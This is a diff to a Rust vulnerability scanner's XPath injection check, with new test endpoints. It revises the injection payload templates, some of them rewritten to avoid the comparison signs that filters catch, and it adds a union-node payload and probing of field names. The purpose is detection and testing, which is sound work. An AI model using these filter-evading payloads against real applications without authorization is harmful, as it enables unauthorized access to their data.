@@ -25,39 +25,46 @@ static ABOUT: About = About {
     source: "CWE-643",
 };
 
+/// Where the condition stands. A string that is not empty is true, and an empty one is not, without a sign that filters look for.
 const PLACES: &[&str] = &[
-    "{v}' and {c} and 'a'='a",
-    "{v}' or {c} or 'a'='b",
-    "{v}\" and {c} and \"a\"=\"a",
-    "{v}\" or {c} or \"a\"=\"b",
+    "{v}' and {c} and 'a",
+    "{v}' or {c} or '",
+    "{v}\" and {c} and \"a",
+    "{v}\" or {c} or \"",
     "{v} and {c}",
     "{v} or {c}",
-    "{v}') and {c} and ('a'='a",
-    "{v}') or {c} or ('a'='b",
-    "{v}'] [{c} and 'a'='a",
-    "{v}'or {c} or'a'='b",
+    "{v}') and {c} and ('a",
+    "{v}') or {c} or ('",
+    "{v}'] [{c} and 'a",
+    "{v}'or {c} or'",
     "{v}[{c}]",
     "{v}'][{c}][''='",
     "{v}\"][{c}][\"\"=\"",
     "{v}') or {c} or contains('b','a",
     "{v}\") or {c} or contains(\"b\",\"a",
-    "{v}') ] [{c} and ('a'='a",
-    "{v}\") and {c} and (\"a\"=\"a",
+    "{v}') ] [{c} and ('a",
+    "{v}\") and {c} and (\"a",
+    // Nodes beside those of an expression with more conditions.
+    "{v}']|//*[{c}]|//*['",
 ];
 
 /// Where neither a word nor quotes change anything: what adds nodes.
 const ADDING: &[&str] = &[
-    "{v}' or {c} or 'a'='b",
-    "{v}\" or {c} or \"a\"=\"b",
+    "{v}' or {c} or '",
+    "{v}\" or {c} or \"",
     "0 or {c}",
     "{v}') or {c} or contains('b','a",
     "{v}\") or {c} or contains(\"b\",\"a",
+    "{v}']|//*[{c}]|//*['",
 ];
 
-/// `string-length` is no function of SQL, where this would be a difference of columns.
-/// Signs of markup would often be escaped.
-const YES: [&str; 2] = ["string-length(37)=string-length(37)", "not(string-length(37)=string-length(373))"];
-const NO: [&str; 2] = ["string-length(37)=string-length(373)", "not(string-length(37)=string-length(37))"];
+/// Where the name of a field is a step, or is compared.
+const NAMES: &[&str] = &["{v}[{c}]", "{v}={v} and {c} and {v}"];
+
+/// Numbers are no columns of a search for words, which is what `contains` is in SQL; signs of markup and of comparison would often
+/// be refused.
+const YES: [&str; 2] = ["contains(37,37)", "not(contains(37,73))"];
+const NO: [&str; 2] = ["contains(37,73)", "not(contains(37,37))"];
 
 impl Check for Xpath {
     fn about(&self) -> &'static About {
@@ -70,7 +77,7 @@ impl Check for Xpath {
         entry: &'a Entry,
         point: &'a Point,
     ) -> Option<BoxFuture<'a, ()>> {
-        (!point.is_name()).then(|| probe(bench, entry, point).boxed())
+        Some(probe(bench, entry, point).boxed())
     }
 }
 
@@ -95,6 +102,7 @@ async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
     let list = match (is_quiet, is_far) {
         (true, true) => &[],
         (true, false) => ADDING,
+        (false, _) if point.is_name() => NAMES,
         (false, _) => PLACES,
     };
     for template in list {
@@ -143,7 +151,13 @@ mod tests {
             "/no-words" => {
                 format!("string(//person[name='{}']/room)", name.replace(" and ", "").replace(" or ", ""))
             }
-            "/silent" | "/tells" => format!("string(//person[name='{name}']/room)"),
+            "/column" => {
+                let column = asked.query.first().map_or("", |(name, _)| name.as_str());
+                format!("string(//person[{column}='ann']/room)")
+            }
+            "/two" => format!("string(//person[name='{name}'][room='none']/room)"),
+            "/no-equals" if name.contains(['=', '<', '>']) => return Answer::html("Nobody"),
+            "/silent" | "/tells" | "/no-equals" => format!("string(//person[name='{name}']/room)"),
             _ => format!("string(//person[name='{}']/room)", name.replace('\'', "")),
         };
         match xpath(&expression) {
@@ -163,6 +177,9 @@ mod tests {
             "/begins?name=zed",
             "/no-words?name=ann",
             "/no-markup?name=ann",
+            "/no-equals?name=ann",
+            "/two?name=ann",
+            "/column?name=ann",
         ] {
             let found = scan(&Xpath, server, path).await;
             assert_eq!(found.iter().map(|found| found.qid).collect::<Vec<_>>(), [990_003], "{path}");
